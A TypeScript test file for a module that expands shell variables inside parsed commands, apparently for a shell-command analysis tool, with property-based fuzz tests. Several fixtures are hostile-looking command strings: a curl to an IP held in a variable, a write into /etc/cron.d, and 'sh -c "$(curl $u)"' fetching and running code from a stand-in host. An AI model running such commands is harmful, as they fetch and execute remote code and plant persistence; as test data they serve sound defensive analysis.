import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { withVariables } from './shell-variables.ts'
import { shellCommands } from './shell-words.ts'

const linesOf = (text: string): string[] => withVariables(shellCommands(text)).map(c => c.words.join(' '))

test('plain values are put in, in words, quotes, redirections and substitutions', () => {
  const [open, close] = ['$' + '{', '}']
  assert.equal(
    linesOf(`cc=http://198.51.100.7\ncurl "$cc/x" ${open}cc${close}/y`).at(-1),
    'curl http://198.51.100.7/x http://198.51.100.7/y',
  )
  assert.equal(withVariables(shellCommands('d=/etc/cron.d; echo x >$d/a')).at(-1)?.redirects[0]?.target, '/etc/cron.d/a')
  assert.deepEqual(withVariables(shellCommands('u=http://h.example; sh -c "$(curl $u)"')).at(-1)?.substitutions, ['curl http://h.example'])
  assert.equal(linesOf('export A=b; x $A').at(-1), 'x b')
})

test('near miss: values made at run time, other names, values for one command only', () => {
  assert.equal(linesOf('d=$(mktemp -d); cd $d').at(-1), 'cd $d')
  assert.equal(linesOf('a=1; echo $ab').at(-1), 'echo $ab')
  assert.equal(linesOf('A=1 env; echo $A').at(-1), 'echo $A')
  assert.equal(linesOf('a=1; a=$(x); echo $a').at(-1), 'echo $a')
})

test('any text: never throws, as many commands as before, and nothing grows without end', () => {
  const piece = fc.oneof(
    fc.constantFrom('a=$a$a', 'a=bb', '$a', '$', '{a}', ';', '\n', ' ', 'export ', '"', '`'),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), parts => {
      const commands = shellCommands(parts.join(''))
      const put = withVariables(commands)
      assert.equal(put.length, commands.length)
      for (const command of put) for (const word of command.words) assert.ok(word.length <= 4096)
    }),
  )
})
